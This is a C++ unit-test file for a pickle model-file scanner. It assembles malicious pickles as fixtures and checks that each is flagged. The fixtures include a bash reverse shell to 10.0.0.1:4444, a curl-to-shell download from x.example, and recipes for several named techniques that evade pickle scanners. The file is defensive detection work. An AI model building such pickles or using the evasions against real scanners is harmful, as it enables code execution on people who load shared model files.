// Program + policy -> findings, including one test per structural evasion in
// policy/known_evasions.cpp (named there) and benign reconstruction staying clean.
#include <gtest/gtest.h>

#include <algorithm>

#include "hubguard/scan/pickle/pickle_analysis.hpp"
#include "hubguard/scan/pickle/pickle_vm.hpp"
#include "pickle_assembler.hpp"

namespace hubguard::scan::pickle {
namespace {

using report::Finding;
using report::Verdict;
using test::PickleAsm;

std::vector<Finding> findings_of(const PickleAsm& a) {
  Program p = run_pickle(a.bytes(), 0, {});
  return analyze(p);
}

const Finding* find_rule(const std::vector<Finding>& fs, std::string_view rule) {
  for (const auto& f : fs)
    if (f.rule == rule) return &f;
  return nullptr;
}

Verdict worst(const std::vector<Finding>& fs) {
  Verdict v = Verdict::clean;
  for (const auto& f : fs) v = report::worst(v, f.verdict);
  return v;
}

std::string dump(const std::vector<Finding>& fs) {
  std::string s;
  for (const auto& f : fs) s += f.rule + " | " + f.message + " | " + f.evidence + "\n";
  return s;
}

TEST(PickleAnalysis, DangerousCallIsDangerousWithEvidenceAndOffset) {
  PickleAsm a;
  a.proto(2).global("os", "system").short_unicode("echo pwned").tuple1().reduce().stop();
  auto fs = findings_of(a);
  const Finding* f = find_rule(fs, "pickle.dangerous-call");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_EQ(f->verdict, Verdict::dangerous);
  EXPECT_EQ(f->severity, report::Severity::critical);
  EXPECT_EQ(f->category, "shell-command");
  EXPECT_EQ(f->evidence, "os.system('echo pwned')");
  EXPECT_EQ(f->location.offset, a.str().size() - 2);  // the REDUCE opcode
  EXPECT_EQ(find_rule(fs, "pickle.dangerous-import"), nullptr);
}

TEST(PickleAnalysis, ReverseShellIsMalicious) {
  PickleAsm a;
  a.global("posix", "system").mark().string0("'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'").tuple()
      .reduce().stop();
  auto fs = findings_of(a);
  EXPECT_EQ(worst(fs), Verdict::malicious) << dump(fs);
  EXPECT_EQ(find_rule(fs, "pickle.dangerous-call")->category, "reverse-shell");
}

TEST(PickleAnalysis, DangerousImportWithoutCallIsStillDangerous) {
  PickleAsm a;
  a.proto(2).global("functools", "partial").global("os", "system").short_unicode("id").tuple2()
      .reduce().stop();
  auto fs = findings_of(a);
  const Finding* imp = find_rule(fs, "pickle.dangerous-import");
  ASSERT_NE(imp, nullptr) << dump(fs);
  EXPECT_NE(imp->message.find("os.system"), std::string::npos);
  EXPECT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr);
  EXPECT_EQ(worst(fs), Verdict::dangerous);
}

TEST(PickleAnalysis, UnknownCallIsSuspiciousAndDangerousWithCode) {
  PickleAsm plain;
  plain.proto(2).global("mylib", "helper").short_unicode("config").tuple1().reduce().stop();
  auto fs = findings_of(plain);
  ASSERT_NE(find_rule(fs, "pickle.unknown-call"), nullptr) << dump(fs);
  EXPECT_EQ(worst(fs), Verdict::suspicious);

  PickleAsm code;
  code.proto(2).global("mylib", "helper").short_unicode("__import__('os').system('id')").tuple1()
      .reduce().stop();
  auto fc = findings_of(code);
  EXPECT_EQ(find_rule(fc, "pickle.unknown-call")->verdict, Verdict::dangerous) << dump(fc);
}

TEST(PickleAnalysis, BenignTorchStateDictIsClean) {
  PickleAsm a;
  a.proto(2).global("collections", "OrderedDict").empty_tuple().reduce().binput(0).mark()
      .binunicode("fc.weight").global("torch._utils", "_rebuild_tensor_v2").mark().mark()
      .binunicode("storage").global("torch", "FloatStorage").binunicode("0").binunicode("cpu")
      .binint1(6).tuple().binpersid().binint1(0).binint1(2).binint1(3).tuple2().binint1(3)
      .binint1(1).tuple2().newfalse().global("collections", "OrderedDict").empty_tuple().reduce()
      .tuple().reduce().setitems().stop();
  Program p = run_pickle(a.bytes(), 0, {});
  ASSERT_TRUE(p.stopped) << p.error;
  auto fs = analyze(p);
  EXPECT_TRUE(fs.empty()) << dump(fs);
}

TEST(PickleAnalysis, BenignSklearnStyleReconstructionIsClean) {
  PickleAsm a;
  a.proto(2).global("copy_reg", "_reconstructor").global("sklearn.linear_model._logistic",
                                                        "LogisticRegression")
      .global("__builtin__", "object").none().tuple3().reduce().empty_dict()
      .short_binstring("C").binfloat(1.0).setitem().build()
      .global("numpy.core.multiarray", "_reconstruct").global("numpy", "ndarray").binint1(0)
      .tuple1().short_binbytes("b").tuple3().reduce().pop().stop();
  auto fs = findings_of(a);
  EXPECT_TRUE(fs.empty()) << dump(fs);
}

TEST(PickleAnalysis, UnknownClassInstantiationIsSuspiciousOnce) {
  PickleAsm a;
  a.proto(2).empty_list();
  for (int i = 0; i < 5; ++i) a.global("__main__", "Block").empty_tuple().newobj().append();
  a.stop();
  auto fs = findings_of(a);
  ASSERT_EQ(fs.size(), 1u) << dump(fs);
  EXPECT_EQ(fs[0].rule, "pickle.unknown-call");
  EXPECT_EQ(fs[0].verdict, Verdict::suspicious);
  EXPECT_NE(fs[0].message.find("(5 times)"), std::string::npos);
}

TEST(PickleAnalysis, LimitHitsAreUnscannable) {
  PickleAsm a;
  a.proto(2);
  for (int i = 0; i < 30; ++i) a.none();
  ScanLimits limits;
  limits.max_pickle_ops = 10;
  auto fs = analyze(run_pickle(a.bytes(), 0, limits));
  const Finding* f = find_rule(fs, "pickle.limit-exceeded");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_EQ(f->verdict, Verdict::unscannable);
}

TEST(PickleAnalysis, EmbeddedCodeIsExtracted) {
  PickleAsm a;
  a.proto(2).call1("builtins", "exec", "import os").pop().call1("os", "system", "id").stop();
  auto code = embedded_code(run_pickle(a.bytes(), 0, {}));
  ASSERT_EQ(code.size(), 2u);
  EXPECT_FALSE(code[0].shell);
  EXPECT_EQ(code[0].text, "import os");
  EXPECT_EQ(code[0].via, "builtins.exec");
  EXPECT_TRUE(code[1].shell);
}

// ---- structural evasions (see policy/known_evasions.cpp) ----

TEST(PickleAnalysis, EvasionMemoConfusion) {
  // picklescan#14: PUT and MEMOIZE mixed so a scanner's memo model disagrees with the loader.
  PickleAsm a;
  a.proto(4).binstring("os").binput(0).binstring("system").binput(1)
      .binstring("torch._utils").memoize().binstring("_rebuild_tensor_v2").memoize()
      .pop().pop().pop().pop().binget(0).binget(1).stack_global().binstring("id").tuple1()
      .reduce().stop();
  auto fs = findings_of(a);
  const Finding* f = find_rule(fs, "pickle.dangerous-call");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_EQ(f->evidence, "os.system('id')");
  EXPECT_NE(find_rule(fs, "pickle.anomaly"), nullptr);
}

TEST(PickleAnalysis, EvasionStackGlobalFromMemo) {
  PickleAsm a;
  a.proto(4).short_unicode("builtins").memoize().short_unicode("eval").memoize().pop().pop()
      .short_unicode("collections").short_unicode("OrderedDict").stack_global().pop()
      .binget(0).binget(1).stack_global().short_unicode("1").tuple1().reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  EXPECT_EQ(find_rule(fs, "pickle.dangerous-call")->evidence, "builtins.eval('1')");
}

TEST(PickleAnalysis, EvasionBuildPoisonsGlobal) {
  // modelscan#85: BUILD sets attributes on an allowlisted function, then GLOBAL reads them
  // back through a dotted name.
  PickleAsm a;
  a.proto(4).global("numpy", "prod").none().mark().unicode0("a").unicode0("os").dict().tuple2()
      .build().pop().global("numpy", "prod.a").put("0").pop().get("0").unicode0("system")
      .stack_global().unicode0("echo pwned").tuple1().reduce().stop();
  auto fs = findings_of(a);
  const Finding* f = find_rule(fs, "pickle.global-mutation");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_EQ(f->verdict, Verdict::dangerous);
  EXPECT_GE(worst(fs), Verdict::dangerous);
}

TEST(PickleAnalysis, EvasionComputedStackGlobal) {
  // modelscan#331: module name computed with str.join at load time.
  PickleAsm a;
  a.proto(4).global("builtins", "getattr").global("builtins", "str").short_unicode("join")
      .tuple2().reduce().short_unicode("").empty_list().mark().short_unicode("o")
      .short_unicode("s").appends().tuple2().reduce().short_unicode("system").stack_global()
      .short_unicode("id").tuple1().reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.nonconstant-global"), nullptr) << dump(fs);
  EXPECT_EQ(find_rule(fs, "pickle.nonconstant-global")->verdict, Verdict::dangerous);
}

TEST(PickleAnalysis, EvasionGetattrChain) {
  PickleAsm a;
  a.proto(4).global("builtins", "getattr").global("importlib", "import_module")
      .short_unicode("os").tuple1().reduce().short_unicode("system").tuple2().reduce()
      .short_unicode("curl http://x.example/p.sh | sh").tuple1().reduce().stop();
  auto fs = findings_of(a);
  EXPECT_EQ(worst(fs), Verdict::malicious) << dump(fs);
  bool resolved = std::any_of(fs.begin(), fs.end(), [](const Finding& f) {
    return f.rule == "pickle.dangerous-call" && f.message.find("os.system (reached indirectly)") != std::string::npos;
  });
  EXPECT_TRUE(resolved) << dump(fs);
}

TEST(PickleAnalysis, EvasionPoppedCallResult) {
  // Fickling dropped calls whose result was POPped; the loader still ran them.
  PickleAsm a;
  a.proto(2).call1("os", "system", "id").pop().none().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
}

TEST(PickleAnalysis, EvasionPayloadBeforeBadOpcode) {
  PickleAsm a;
  a.proto(2).call1("os", "system", "id").op(0xff);
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  ASSERT_NE(find_rule(fs, "pickle.broken-stream"), nullptr) << dump(fs);
}

TEST(PickleAnalysis, EvasionLeftoverStackAtStop) {
  PickleAsm a;
  a.mark().global("os", "system").mark().string0("'id'").tuple().reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  EXPECT_NE(find_rule(fs, "pickle.anomaly"), nullptr);
}

TEST(PickleAnalysis, EvasionPayloadInLaterPickle) {
  PickleAsm a;
  a.proto(2).empty_dict().stop();
  a.proto(2).call1("os", "system", "id").stop();
  PickleStream s = run_pickle_stream(a.bytes(), 0, {});
  ASSERT_EQ(s.pickles.size(), 2u);
  EXPECT_TRUE(analyze(s.pickles[0]).empty());
  EXPECT_NE(find_rule(analyze(s.pickles[1]), "pickle.dangerous-call"), nullptr);
}

TEST(PickleAnalysis, EvasionProtocol0WithoutProto) {
  PickleAsm a;
  a.mark().global("pty", "spawn").string0("\"id\"").op('o').stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
}

TEST(PickleAnalysis, EvasionEscapedStrings) {
  PickleAsm a;
  a.proto(4).string0("'\\x6fs'").unicode0("\\u0073ystem").stack_global().string0("'id'").tuple1()
      .reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  EXPECT_EQ(find_rule(fs, "pickle.dangerous-call")->evidence, "os.system('id')");
}

TEST(PickleAnalysis, EvasionExtOpcode) {
  PickleAsm a;
  a.proto(2).ext2(1234).short_unicode("id").tuple1().reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.ext-opcode"), nullptr) << dump(fs);
  ASSERT_NE(find_rule(fs, "pickle.dynamic-call"), nullptr) << dump(fs);
}

TEST(PickleAnalysis, EvasionPopConsumesMark) {
  PickleAsm a;
  a.proto(2).global("os", "system").mark().pop().short_unicode("id").tuple1().reduce().stop();
  auto fs = findings_of(a);
  ASSERT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  EXPECT_NE(find_rule(fs, "pickle.anomaly"), nullptr);
}

TEST(PickleAnalysis, EvasionBuildSetstate) {
  // An object of an unknown class gets state through BUILD: its __setstate__ runs.
  PickleAsm a;
  a.proto(2).global("_interpreters", "create").empty_tuple().reduce().pop()
      .global("evil.mod", "Gadget").empty_tuple().newobj().short_unicode("payload").build().stop();
  auto fs = findings_of(a);
  EXPECT_NE(find_rule(fs, "pickle.dangerous-call"), nullptr) << dump(fs);
  const Finding* u = find_rule(fs, "pickle.unknown-call");
  ASSERT_NE(u, nullptr) << dump(fs);
  EXPECT_NE(u->message.find("instantiates evil.mod.Gadget"), std::string::npos);
}

}  // namespace
}  // namespace hubguard::scan::pickle

namespace hubguard::scan::pickle {
namespace {

using report::Finding;
using report::Verdict;
using test::PickleAsm;

std::vector<Finding> analyzed(const PickleAsm& a) { return analyze(run_pickle(a.bytes(), 0, {})); }

Verdict worst_of(const std::vector<Finding>& fs) {
  Verdict v = Verdict::clean;
  for (const auto& f : fs) v = report::worst(v, f.verdict);
  return v;
}

TEST(PickleAnalysisGetattr, BoundMethodOfSafeObjectIsOnlySuspicious) {
  // pickle.dumps(OrderedDict().keys, protocol=4) style: getattr(instance, 'keys').
  PickleAsm a;
  a.proto(4).global("builtins", "getattr").global("collections", "OrderedDict").empty_tuple()
      .reduce().short_unicode("keys").tuple2().reduce().stop();
  auto fs = analyzed(a);
  EXPECT_EQ(worst_of(fs), Verdict::suspicious);
}

TEST(PickleAnalysisGetattr, GetattrReachingDangerousOrDunderIsDangerous) {
  PickleAsm os;
  os.proto(4).global("builtins", "getattr").global("os", "path").short_unicode("join").tuple2()
      .reduce().stop();
  EXPECT_EQ(worst_of(analyzed(os)), Verdict::dangerous);

  PickleAsm dunder;
  dunder.proto(4).global("builtins", "getattr").global("collections", "OrderedDict")
      .short_unicode("__init__").tuple2().reduce().stop();
  EXPECT_EQ(worst_of(analyzed(dunder)), Verdict::dangerous);

  PickleAsm computed;
  computed.proto(4).global("builtins", "getattr").global("collections", "OrderedDict")
      .global("builtins", "str").short_unicode("x").tuple1().reduce().tuple2().reduce().stop();
  EXPECT_EQ(worst_of(analyzed(computed)), Verdict::dangerous);
}

}  // namespace
}  // namespace hubguard::scan::pickle

namespace hubguard::scan::pickle {
namespace {

TEST(PickleAnalysisNested, NestedPicklePayloadsAreHandedBack) {
  test::PickleAsm inner;
  inner.proto(2).call1("os", "system", "id").stop();
  test::PickleAsm outer;
  outer.proto(4).global("pickle", "loads").binbytes(inner.str()).tuple1().reduce().stop();
  Program p = run_pickle(outer.bytes(), 0, {});
  auto nested = nested_payloads(p);
  ASSERT_EQ(nested.size(), 1u);
  EXPECT_EQ(nested[0].via, "pickle.loads");
  EXPECT_EQ(nested[0].bytes, inner.str());
  Program q = run_pickle(as_bytes(nested[0].bytes), 0, {});
  EXPECT_EQ(q.calls.size(), 1u);
}

}  // namespace
}  // namespace hubguard::scan::pickle

namespace hubguard::scan::pickle {
namespace {

TEST(PickleAnalysisExt, ExtensionRegisteredInThePickleIsResolved) {
  test::PickleAsm a;
  a.proto(2).global("copyreg", "add_extension").short_unicode("os").short_unicode("system")
      .binint2(1234).tuple3().reduce().pop().ext2(1234).short_unicode("id").tuple1().reduce()
      .stop();
  auto fs = analyze(run_pickle(a.bytes(), 0, {}));
  bool system_call = false;
  for (const auto& f : fs)
    system_call = system_call || (f.rule == "pickle.dangerous-call" &&
                                  f.message.find("calls os.system") != std::string::npos);
  EXPECT_TRUE(system_call);
}

}  // namespace
}  // namespace hubguard::scan::pickle
